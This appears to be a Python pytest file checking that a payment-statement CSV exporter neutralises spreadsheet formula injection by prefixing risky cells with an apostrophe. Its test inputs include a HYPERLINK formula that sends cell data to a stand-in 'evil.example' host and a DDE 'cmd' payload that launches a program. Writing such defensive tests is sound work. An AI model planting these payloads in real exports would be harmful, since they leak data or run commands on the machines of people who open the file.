"""What people typed, in a spreadsheet: shown, never calculated, and found again."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hongbao.statements.csv import cell, uncell
from tests.every import every
from tests.statements.reading import rows_of, written
from tests.statements.test_formats import movement, statement

TEXTS = st.text(
    st.sampled_from("=+-@＝＋－＠﹣−⁺'\"＇;,\t\r\n \u3000\u200b\ufeffa小1|%"), max_size=12
)


def calculated(text: str) -> bool:
    """Say whether a spreadsheet might take *text*, the content of one cell, for a formula."""
    seen = unicodedata.normalize("NFKC", text).lstrip('" \t\r\n\u200b\ufeff')
    return seen[:1] in tuple("=+-@−")


@every(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"小红")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1:9)",
        "\t=1+1",
        "\rsomething",
        "\t小红",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹣1",
        " =1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        '"=1+1',
        "'=1+1",
    ],
)
def test_what_begins_like_a_formula_is_text(text):
    """
    An apostrophe in front, and the text as it was behind it.
    """
    assert f"'{text}" == cell(text) or (text[0] == "\t" and cell(text).startswith("'\t"))
    assert text == uncell(cell(text))


@every("text", ["小明", "mary-ann_2", "a=b", "恭喜发财，大吉大利", "1-2", "cmb-3334"])
def test_what_is_no_formula_stays_as_it_is(text):
    """
    Names, cards, ids and greetings with such signs inside them.
    """
    assert text == cell(text)


def test_nothing_is_an_empty_cell():
    """
    A movement without a counterparty.
    """
    assert "" == cell(None) == cell("")


@given(TEXTS)
def test_any_text_is_found_again(text):
    """
    No two texts become the same cell.
    """
    assert text == uncell(cell(text))


@given(TEXTS, st.sampled_from(",;\t"))
def test_no_text_becomes_a_formula_at_any_delimiter(text, delimiter):
    """
    Where the decimal mark is a comma, Excel parts cells at semicolons and knows quotes only there.
    """
    hostile = statement(movement(counterparty=text), closing_fen=3334, out_fen=6666, count=1)
    content = written(hostile, "csv").decode("utf-8-sig")

    if delimiter == ",":
        rows = csv.reader(io.StringIO(content, newline=""))
    else:
        rows = csv.reader(re.split(r"[\r\n]+", content), delimiter=delimiter)
    cells = [cell for row in rows for cell in row]

    ours = {"-66.66"}
    assert [] == [found for found in cells if found not in ours and calculated(found)]


def test_numbers_stay_numbers():
    """
    What went out is less than nothing: its minus sign is ours and stands alone.
    """
    _, sent, withdrawn, _ = rows_of(written(statement(), "csv"))

    assert ("-66.66", "33.34") == (sent["amount_yuan"], sent["balance_yuan"])
    assert ("-10.10", "10.00", "0.10") == (
        withdrawn["amount_yuan"],
        withdrawn["card_yuan"],
        withdrawn["fee_yuan"],
    )


@pytest.mark.parametrize("key", ["counterparty", "request_id", "packet", "card"])
def test_every_text_of_a_movement_is_made_safe(key):
    """
    Whoever it came from: today's ids cannot begin like a formula, tomorrow's might.
    """
    hostile = movement(**{key: "=1+1"})

    row = rows_of(written(statement(hostile, closing_fen=3334, out_fen=6666, count=1), "csv"))[1]

    assert "'=1+1" == row[key]


def test_the_holders_name_is_made_safe():
    """
    It stands in every row.
    """
    rows = rows_of(written(statement(profile="@小明"), "csv"))

    assert {"'@小明"} == {row["profile"] for row in rows}
